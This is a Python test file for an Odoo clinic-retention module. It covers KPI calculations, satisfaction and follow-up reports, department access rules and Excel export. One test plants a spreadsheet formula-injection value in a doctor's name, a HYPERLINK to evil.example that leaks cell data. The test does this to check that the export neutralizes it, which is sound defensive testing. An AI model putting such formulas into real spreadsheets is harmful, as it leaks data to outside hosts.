import io
import zipfile
from datetime import date, datetime

import openpyxl
from dateutil.relativedelta import relativedelta
from freezegun import freeze_time

from odoo.addons.clinic_retention.report.clinic_retention_kpi import KPI_COLUMNS
from odoo.fields import Command
from odoo.tests import TransactionCase, new_test_user, tagged

Q1 = (date(2026, 1, 1), date(2026, 3, 31))


def days(a, b):
    return (b - a).days


class ReportsCase(TransactionCase):
    """A small clinic built by hand, in its own company (so demo data does
    not count), whose KPIs are worked out below for Q1 2026 with a 365-day
    active window (period start 2026-01-01 → window from 2025-01-01; period
    end 2026-04-01 → window from 2025-04-01)."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env = cls.env(context=dict(cls.env.context, tracking_disable=True, no_reset_password=True))
        cls.company = cls.env["res.company"].create({"name": "KPI Clinic", "country_id": cls.env.ref("base.cn").id})
        company_vals = {"company_id": cls.company.id, "company_ids": [(6, 0, cls.company.ids)]}
        cls.manager = new_test_user(
            cls.env, login="kpi_manager", groups="clinic_retention.group_clinic_retention_manager", **company_vals
        )
        cls.agent = new_test_user(
            cls.env, login="kpi_agent", groups="clinic_retention.group_clinic_retention_user", **company_vals
        )
        cls.doctor = new_test_user(
            cls.env, login="kpi_doctor", name="Dr. Kpi", groups="base.group_user", **company_vals
        )
        Department = cls.env["clinic.department"].with_company(cls.company)
        cls.dental = Department.create(
            {
                "name": "KPI Dental",
                "company_id": cls.company.id,
                "member_ids": [(6, 0, cls.agent.ids)],
                "manager_id": cls.manager.id,
            }
        )
        cls.cardio = Department.create(
            {"name": "KPI Cardio", "company_id": cls.company.id, "manager_id": cls.manager.id}
        )
        Patient = cls.env["clinic.patient"].with_company(cls.company)

        def patient(name, mobile):
            return Patient.create({"name": name, "mobile": mobile, "company_id": cls.company.id})

        cls.p1 = patient("KPI Retained", "13800000001")
        cls.p2 = patient("KPI Lost", "13800000002")
        cls.p3 = patient("KPI New", "13800000003")
        cls.p4 = patient("KPI Reactivated", "13800000004")
        cls.p5 = patient("KPI Cardio Regular", "13800000005")

        def visit(patient, day, amount, department=None):
            start = datetime.combine(day, datetime.min.time()).replace(hour=10)
            return cls.env["clinic.visit"].create(
                {
                    "patient_id": patient.id,
                    "department_id": (department or cls.dental).id,
                    "company_id": cls.company.id,
                    "doctor_id": cls.doctor.id,
                    "start": start,
                    "stop": start.replace(minute=30),
                    "state": "done",
                    "amount": amount,
                }
            )

        visit(cls.p1, date(2025, 6, 1), 100)
        visit(cls.p1, date(2026, 2, 1), 200)
        visit(cls.p2, date(2025, 2, 15), 300)
        visit(cls.p3, date(2026, 3, 10), 150)
        visit(cls.p4, date(2024, 1, 10), 80)
        visit(cls.p4, date(2026, 1, 20), 120)
        visit(cls.p5, date(2025, 12, 1), 500, cls.cardio)
        visit(cls.p5, date(2026, 3, 1), 500, cls.cardio)
        cls.env["clinic.visit"].search(
            [("patient_id", "in", (cls.p1 | cls.p2 | cls.p3 | cls.p4 | cls.p5).ids), ("state", "=", "scheduled")]
        ).unlink()

        # Satisfaction: dental 5, 4, 2 (doctor Kpi); cardiology 1
        Response = cls.env["clinic.survey.response"]
        for patient_, department, score in (
            (cls.p1, cls.dental, 5),
            (cls.p3, cls.dental, 4),
            (cls.p4, cls.dental, 2),
            (cls.p5, cls.cardio, 1),
        ):
            Response.create(
                {
                    "patient_id": patient_.id,
                    "department_id": department.id,
                    "doctor_id": cls.doctor.id,
                    "company_id": cls.company.id,
                    "state": "answered",
                    "score": score,
                    "submitted_date": datetime(2026, 2, 10, 9),
                }
            )

        # Follow-ups closed in Q1 (post-visit calls): phone reached / booked / refused, sms not reached
        done = cls.env.ref("clinic_retention.followup_stage_done")
        unreachable = cls.env.ref("clinic_retention.followup_stage_unreachable")
        Task = cls.env["clinic.followup.task"]
        for patient_, channel, outcome, attempts, hours, stage in (
            (cls.p1, "phone", "reached", 1, 2, done),
            (cls.p3, "phone", "visit_booked", 2, 4, done),
            (cls.p4, "phone", "refused", 1, 6, done),
            (cls.p2, "sms", "not_reached", 3, 0, unreachable),
        ):
            task = Task.create(
                {
                    "name": "KPI call",
                    "patient_id": patient_.id,
                    "department_id": cls.dental.id,
                    "company_id": cls.company.id,
                    "reason": "post_visit",
                    "channel": channel,
                    "user_id": cls.agent.id,
                }
            )
            task.write(
                {
                    "stage_id": stage.id,
                    "outcome": outcome,
                    "attempt_count": attempts,
                    "open_date": datetime(2026, 2, 2, 8),
                    "first_contact_date": datetime(2026, 2, 2, 8 + hours),
                    "last_attempt_date": datetime(2026, 2, 3, 9),
                    "closed_date": datetime(2026, 2, 3, 9),
                }
            )
        # a manual call in cardiology (only managers see it in the reports)
        Task.create(
            {
                "name": "KPI cardio call",
                "patient_id": cls.p5.id,
                "department_id": cls.cardio.id,
                "company_id": cls.company.id,
                "reason": "manual",
            }
        ).write({"stage_id": done.id, "outcome": "reached", "closed_date": datetime(2026, 2, 3, 9)})
        # Recalls due in January: P1 reached and came back, P2 not reached and complained
        for patient_, outcome, stage in ((cls.p1, "reached", done), (cls.p2, "not_reached", unreachable)):
            task = Task.create(
                {
                    "name": "KPI recall",
                    "patient_id": patient_.id,
                    "department_id": cls.dental.id,
                    "company_id": cls.company.id,
                    "reason": "recall",
                    "channel": "phone",
                }
            )
            task.write(
                {
                    "stage_id": stage.id,
                    "outcome": outcome,
                    "due_date": date(2026, 1, 15),
                    "open_date": datetime(2026, 1, 1, 8),
                    "closed_date": datetime(2026, 1, 5, 9),
                }
            )
        complaint = cls.env["clinic.complaint"].create(
            {
                "name": "KPI complaint",
                "description": "Nobody called me",
                "patient_id": cls.p2.id,
                "department_id": cls.dental.id,
                "company_id": cls.company.id,
            }
        )
        complaint.write({"received_date": datetime(2026, 2, 10, 9)})
        cls.env.flush_all()
        cls.env["clinic.retention.report"]._refresh()  # materialized: refreshed nightly or on demand

    def _kpis(self, user, **kwargs):
        return self.env["clinic.retention.kpi"].with_user(user).with_company(self.company)._compute(*Q1, **kwargs)


@tagged("post_install", "-at_install")
class TestReports(ReportsCase):
    def test_retention_kpis_for_the_clinic(self):
        [line] = self._kpis(self.manager)
        # S: P1, P2, P5 active on 2026-01-01; N: P3; E: P1, P3, P4, P5 on 2026-04-01; lost: P2
        self.assertEqual(
            (line["patients_start"], line["patients_new"], line["patients_end"], line["patients_lost"]), (3, 1, 4, 1)
        )
        self.assertAlmostEqual(line["prr"], (4 - 1) / 3)
        self.assertAlmostEqual(line["churn"], 1 / 3)
        self.assertEqual(float(line["lost_revenue"]), 300.0, "P2 billed 300 in 2025")
        self.assertEqual(float(line["revenue"]), 200 + 150 + 120 + 500)
        # value: what E billed since 2025-04-01 (P1 100 + 200, P3 150, P4 120, P5 1000) / 4
        self.assertAlmostEqual(line["avg_value"], 1570 / 4)
        lifespan_days = (
            days(date(2025, 6, 1), date(2026, 2, 1)) + 0 + days(date(2024, 1, 10), date(2026, 1, 20)) + 90
        ) / 4
        self.assertAlmostEqual(line["lifetime_value"], 1570 / 4 * lifespan_days / 365.25, places=4)
        gaps = [days(date(2025, 6, 1), date(2026, 2, 1)), days(date(2024, 1, 10), date(2026, 1, 20)), 90]
        self.assertAlmostEqual(float(line["avg_days_between_visits"]), sum(gaps) / 3, places=4)

    def test_agent_sees_only_their_departments(self):
        [line] = self._kpis(self.agent)
        self.assertEqual(line["department"], self.dental)
        # dental only: S = P1, P2; N = P3; E = P1, P3, P4
        self.assertEqual((line["patients_start"], line["patients_new"], line["patients_end"]), (2, 1, 3))
        self.assertAlmostEqual(line["prr"], (3 - 1) / 2)
        self.assertAlmostEqual(line["churn"], 1 / 2)
        for model in ("clinic.satisfaction.report", "clinic.followup.report", "clinic.retention.report"):
            rows = self.env[model].with_user(self.agent).search([("company_id", "=", self.company.id)])
            self.assertTrue(rows, model)
            self.assertEqual(rows.department_id, self.dental, model)
            all_rows = self.env[model].with_user(self.manager).search([("company_id", "=", self.company.id)])
            self.assertGreater(len(all_rows), len(rows), model)
        other = (
            self.env["clinic.retention.kpi"]
            .with_user(self.agent)
            ._compute(*Q1, company=self.env.ref("base.main_company"))
        )
        self.assertEqual(other, [], "nothing of a company the agent does not work in")

    def test_departments_together_count_each_patient_once(self):
        both = new_test_user(
            self.env,
            login="kpi_agent_both",
            groups="clinic_retention.group_clinic_retention_user",
            company_id=self.company.id,
            company_ids=[Command.set(self.company.ids)],
        )
        (self.dental | self.cardio).member_ids = [Command.link(both.id)]
        [clinic] = self._kpis(self.manager)
        [line] = self._kpis(both)
        self.assertFalse(line["department"], "the rules let them see every department: the whole clinic")
        # every visit of this clinic is in one of the two: the whole clinic's figures, none lost on the way
        for key in (*KPI_COLUMNS, "prr", "churn", "avg_value", "lifetime_value"):
            self.assertAlmostEqual(float(line[key]), float(clinic[key]), places=6, msg=key)
        self.assertGreater(line["lifetime_value"], 0)
        self.assertGreater(float(line["lost_revenue"]), 0)
        # a manager choosing both departments gets that line, and each department after it
        lines = self._kpis(self.manager, department_ids=(self.dental | self.cardio).ids, by_department=True)
        self.assertEqual(len(lines), 3)
        self.assertEqual(lines[0]["department"], self.dental | self.cardio)
        self.assertEqual({entry["department"] for entry in lines[1:]}, {self.dental, self.cardio})
        # the dashboard shows the same numbers to both
        Dashboard = self.env["clinic.retention.dashboard"]
        mine = Dashboard.with_user(both).with_company(self.company).create({"period": "year"})
        managers = Dashboard.with_user(self.manager).with_company(self.company).create({"period": "year"})
        for name in ("patients_end", "revenue", "lost_revenue", "lifetime_value", "gap_days", "prr"):
            self.assertAlmostEqual(mine[f"current_{name}"], managers[f"current_{name}"], places=2, msg=name)
        self.assertGreater(managers.current_revenue, 0)
        self.assertGreater(managers.current_lifetime_value, 0)
        self.assertGreater(managers.current_gap_days, 0)

    def test_satisfaction_report(self):
        Report = self.env["clinic.satisfaction.report"].with_user(self.manager)
        groups = Report._read_group(
            [("company_id", "=", self.company.id)],
            ["department_id"],
            ["response_count:sum", "score:avg", "satisfied_pct:avg", "dissatisfied_pct:avg"],
        )
        by_department = {dept: values for dept, *values in groups}
        count, avg, satisfied, dissatisfied = by_department[self.dental]
        self.assertEqual(count, 3)
        self.assertAlmostEqual(avg, (5 + 4 + 2) / 3)
        self.assertAlmostEqual(satisfied, 100 * 2 / 3)
        self.assertAlmostEqual(dissatisfied, 100 / 3)
        self.assertEqual(by_department[self.cardio][:2], [1, 1.0])
        [(doctor, avg)] = Report._read_group([("company_id", "=", self.company.id)], ["doctor_id"], ["score:avg"])
        self.assertEqual((doctor, avg), (self.doctor, 3.0))

    def test_followup_success_report(self):
        Report = self.env["clinic.followup.report"].with_user(self.manager)
        domain = [("company_id", "=", self.company.id), ("reason", "=", "post_visit")]
        groups = {
            channel: values
            for channel, *values in Report._read_group(
                domain,
                ["channel"],
                [
                    "task_count:sum",
                    "reached_pct:avg",
                    "success_pct:avg",
                    "attempt_count:avg",
                    "hours_to_first_contact:avg",
                ],
            )
        }
        count, reached, success, attempts, hours = groups["phone"]
        self.assertEqual(count, 3)
        self.assertAlmostEqual(reached, 100.0, msg="reached, booked and refused all spoke to us")
        self.assertAlmostEqual(success, 100 * 2 / 3, msg="success: reached or booked")
        self.assertAlmostEqual(attempts, 4 / 3)
        self.assertAlmostEqual(hours, (2 + 4 + 6) / 3)
        self.assertEqual(groups["sms"][:3], [1, 0.0, 0.0])
        [(total_success,)] = Report._read_group(domain, [], ["success_pct:avg"])
        self.assertAlmostEqual(total_success, 50.0)
        [(weekday, hour)] = {(r.contact_weekday, r.contact_hour) for r in Report.search(domain)}
        self.assertEqual((weekday, hour), ("2", 9), "Tuesday 09:00 (the company has no time zone: UTC)")

    def test_followed_vs_not_followed(self):
        groups = (
            self.env["clinic.followed.report"]
            .with_user(self.manager)
            ._read_group(
                [("company_id", "=", self.company.id)],
                ["followed"],
                ["patient_count:sum", "revisit_pct:avg", "complaint_pct:avg"],
            )
        )
        self.assertEqual(sorted(groups), [("followed", 1, 100.0, 0.0), ("not_followed", 1, 0.0, 100.0)])

    def test_monthly_retention_report(self):
        Report = self.env["clinic.retention.report"].with_user(self.manager)
        march = Report.search([("department_id", "=", self.dental.id), ("date", "=", date(2026, 3, 1))])
        # on 2026-03-01 P1 and P4 are active (P2's last visit is older than 365 days); P3 new; E = P1, P3, P4
        self.assertRecordValues(
            march,
            [{"patients_start": 2, "patients_new": 1, "patients_end": 3, "patients_lost": 0, "prr": 100.0}],
        )
        february = Report.search([("department_id", "=", self.dental.id), ("date", "=", date(2026, 2, 1))])
        self.assertEqual(february.patients_lost, 1, "P2 lapses in February")
        self.assertAlmostEqual(february.churn, 100 / 3)
        again = Report.search([("department_id", "=", self.dental.id), ("date", "=", date(2026, 3, 1))])
        self.assertEqual(again.id, march.id, "stable ids")

    def test_dashboard_drills_into_the_lists(self):
        dashboard = (
            self.env["clinic.retention.dashboard"]
            .with_user(self.manager)
            .with_company(self.company)
            .create({"period": "quarter"})
        )
        # the lists behind the counts come from the same definition: Q1 2026 as the "previous" quarter
        with freeze_time("2026-05-15 12:00:00"):
            self.assertEqual(dashboard._bounds("previous"), Q1)
            expected = {
                "patients_start": self.p1 | self.p2 | self.p5,
                "patients_new": self.p3,
                "patients_end": self.p1 | self.p3 | self.p4 | self.p5,
                "patients_lost": self.p2,
            }
            for kpi, patients in expected.items():
                self.assertEqual(dashboard._patient_ids(kpi, "previous"), sorted(patients.ids), kpi)
                action = dashboard.with_context(kpi=kpi, which="previous").action_drill()
                self.assertEqual(action["domain"], [("id", "in", sorted(patients.ids))], kpi)
        action = dashboard.with_context(kpi="overdue_tasks").action_drill()
        self.assertEqual(action["res_model"], "clinic.followup.task")

    def test_drill_down_lists_match_the_counts(self):
        """One definition: for every selection, the number of patients listed
        behind S, N, E and lost is the count shown."""
        Kpi = self.env["clinic.retention.kpi"].with_company(self.company)
        for user in (self.manager, self.agent):
            for department_ids in (None, self.dental.ids, self.cardio.ids):
                lines = Kpi.with_user(user)._compute(*Q1, department_ids=department_ids)
                if not lines:
                    continue
                for flag, count in (
                    ("at_start", "patients_start"),
                    ("is_new", "patients_new"),
                    ("at_end", "patients_end"),
                    ("lost", "patients_lost"),
                ):
                    patients = Kpi.with_user(user)._patient_ids(flag, *Q1, department_ids=department_ids)
                    self.assertEqual(len(patients), lines[0][count], (user.login, department_ids, flag))

    def test_periods_are_the_clinics_local_calendar(self):
        """A visit at 04:00 on 1 April in Shanghai (20:00 UTC on 31 March)
        belongs to April: to Q2, not to Q1."""
        self.company.clinic_tz = "Asia/Shanghai"
        late = self.env["clinic.patient"].create(
            {"name": "KPI Early April", "mobile": "13800000009", "company_id": self.company.id}
        )
        start = datetime(2026, 3, 31, 20, 0)
        self.env["clinic.visit"].create(
            {
                "patient_id": late.id,
                "department_id": self.dental.id,
                "company_id": self.company.id,
                "start": start,
                "stop": start.replace(minute=30),
                "state": "done",
                "amount": 1000,
            }
        )
        [q1] = self._kpis(self.manager)
        self.assertEqual((q1["patients_new"], float(q1["revenue"])), (1, 200 + 150 + 120 + 500), "not in Q1")
        [q2] = (
            self.env["clinic.retention.kpi"]
            .with_user(self.manager)
            .with_company(self.company)
            ._compute(date(2026, 4, 1), date(2026, 6, 30))
        )
        self.assertEqual((q2["patients_new"], float(q2["revenue"])), (1, 1000.0))
        with freeze_time("2026-03-31 17:00:00"):  # 01:00 on 1 April in Shanghai
            current, _previous = self.env["clinic.retention.kpi"].with_company(self.company)._periods("month")
        self.assertEqual(current, (date(2026, 4, 1), date(2026, 4, 30)))

    def test_excel_formulas_are_written_as_text(self):
        """Security review #21: a user named "=HYPERLINK(...)" must not put a
        live formula or link into a manager's workbook."""
        self.doctor.name = '=HYPERLINK("https://evil.example/?"&A4,"Dr Li")'
        wizard = (
            self.env["clinic.retention.export"]
            .with_user(self.manager)
            .with_company(self.company)
            .create({"date_from": Q1[0], "date_to": Q1[1]})
        )
        content = wizard._export_file()[1]
        sheet = openpyxl.load_workbook(io.BytesIO(content))["Satisfaction"]
        cells = [cell for row in sheet.iter_rows() for cell in row if str(cell.value or "").startswith("=HYPERLINK")]
        self.assertTrue(cells, "the doctor's name is in the sheet")
        self.assertEqual({cell.data_type for cell in cells}, {"s"}, "as a string, not a formula")
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheets = "".join(archive.read(name).decode() for name in archive.namelist() if "worksheets" in name)
        self.assertNotIn("<f>", sheets)
        self.assertNotIn("hyperlink", sheets.lower().replace("=hyperlink", ""))

    def test_agent_export_lists_equal_the_agent_list_views(self):
        """The export's lists are what the agent's list views show (record
        rules decide): a task assigned to the dental agent in cardiology,
        whose team they are not in, is in both; a cardiology task of
        somebody else is in neither."""
        Task = self.env["clinic.followup.task"]
        yesterday = date.today() - relativedelta(days=1)
        mine = Task.create(
            {
                "name": "KPI cardio task of the dental agent",
                "patient_id": self.p5.id,
                "department_id": self.cardio.id,
                "user_id": self.agent.id,
                "date_deadline": yesterday,
            }
        )
        Task.create(
            {
                "name": "KPI cardio task of nobody",
                "patient_id": self.p5.id,
                "department_id": self.cardio.id,
                "date_deadline": yesterday,
            }
        )
        Task.create(
            {
                "name": "KPI dental overdue",
                "patient_id": self.p1.id,
                "department_id": self.dental.id,
                "date_deadline": yesterday,
            }
        )
        self.env["clinic.complaint"].create(
            {
                "name": "KPI cardio complaint",
                "description": "Waited an hour",
                "company_id": self.company.id,
                "patient_id": self.p5.id,
                "department_id": self.cardio.id,
            }
        )
        agent_env = self.env(user=self.agent, context=dict(self.env.context, allowed_company_ids=self.company.ids))
        wizard = agent_env["clinic.retention.export"].create({"date_from": Q1[0], "date_to": Q1[1]})
        book = openpyxl.load_workbook(io.BytesIO(wizard._export_file()[1]))
        exported_tasks = sorted(row[0] for row in book["Overdue tasks"].iter_rows(min_row=4, values_only=True))
        seen_tasks = sorted(agent_env["clinic.followup.task"].search([("is_overdue", "=", True)]).mapped("name"))
        self.assertEqual(exported_tasks, seen_tasks)
        self.assertIn(mine.name, exported_tasks)
        self.assertNotIn("KPI cardio task of nobody", exported_tasks)
        exported = sorted(row[0] for row in book["Open complaints"].iter_rows(min_row=4, values_only=True))
        seen = sorted(agent_env["clinic.complaint"].search([("is_open", "=", True)]).mapped("reference"))
        self.assertEqual(exported, seen)
        self.assertTrue(seen, "the agent's own department's complaint")

    def test_excel_export(self):
        wizard = (
            self.env["clinic.retention.export"]
            .with_user(self.manager)
            .with_company(self.company)
            .create({"date_from": Q1[0], "date_to": Q1[1]})
        )
        action = wizard.action_export()
        self.assertEqual(action["url"], f"/clinic_retention/export/{wizard.id}")
        filename, content = wizard._export_file()  # what the download route streams
        self.assertTrue(filename.endswith(".xlsx"))
        book = openpyxl.load_workbook(io.BytesIO(content))
        self.assertEqual(
            book.sheetnames,
            [
                "KPIs",
                "Satisfaction",
                "Follow-up success",
                "Followed vs not",
                "PRR trend",
                "Lost patients",
                "Overdue tasks",
                "Complaints",
                "Open complaints",
                "Conversion",
                "Treatment plans",
                "Referrals",
            ],
        )
        kpis = book["KPIs"]
        self.assertEqual(kpis.freeze_panes, "A4")
        header = [cell.value for cell in kpis[3]]
        rows = {row[0]: dict(zip(header, row, strict=True)) for row in kpis.iter_rows(min_row=4, values_only=True)}
        clinic = rows["All departments"]
        self.assertEqual(
            (clinic["Active at start (S)"], clinic["New (N)"], clinic["Active at end (E)"], clinic["Lost patients"]),
            (3, 1, 4, 1),
        )
        self.assertAlmostEqual(clinic["PRR"], 1.0)
        self.assertAlmostEqual(clinic["Churn"], 1 / 3)
        self.assertEqual(kpis["E4"].number_format, "0.0%")
        self.assertEqual(rows["KPI Dental"]["Active at start (S)"], 2)
        satisfaction = {row[0]: row for row in book["Satisfaction"].iter_rows(min_row=4, max_row=5, values_only=True)}
        self.assertEqual(satisfaction["KPI Dental"][1], 3)
        self.assertAlmostEqual(satisfaction["KPI Dental"][2], 11 / 3)
        lost = list(book["Lost patients"].iter_rows(min_row=4, values_only=True))
        self.assertEqual(lost[0][:2], ("KPI Lost", "+8613800000002"))
        self.assertEqual(lost[0][3].date(), date(2025, 2, 15))
        self.assertEqual(book["Lost patients"].auto_filter.ref[:2], "A3")
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            charts = [name for name in archive.namelist() if name.startswith("xl/charts/chart")]
        self.assertEqual(
            len(charts),
            7,
            "satisfaction by department and aspect and by month, success by department, agent and channel, "
            "PRR trend, conversion funnel",
        )

    def test_agent_export_holds_only_their_departments(self):
        wizard = (
            self.env["clinic.retention.export"]
            .with_user(self.agent)
            .with_company(self.company)
            .create({"date_from": Q1[0], "date_to": Q1[1]})
        )
        book = openpyxl.load_workbook(io.BytesIO(wizard._export_file()[1]))
        kpi_rows = [row[0] for row in book["KPIs"].iter_rows(min_row=4, values_only=True)]
        self.assertEqual(kpi_rows, ["KPI Dental"], "no clinic-wide line, no other department")
        satisfaction = [row[0] for row in book["Satisfaction"].iter_rows(min_row=4, max_row=5, values_only=True)]
        self.assertEqual(satisfaction[0], "KPI Dental")
        self.assertNotIn("KPI Cardio", satisfaction)
        lost = [row[0] for row in book["Lost patients"].iter_rows(min_row=4, values_only=True)]
        self.assertEqual(lost, ["KPI Lost"])
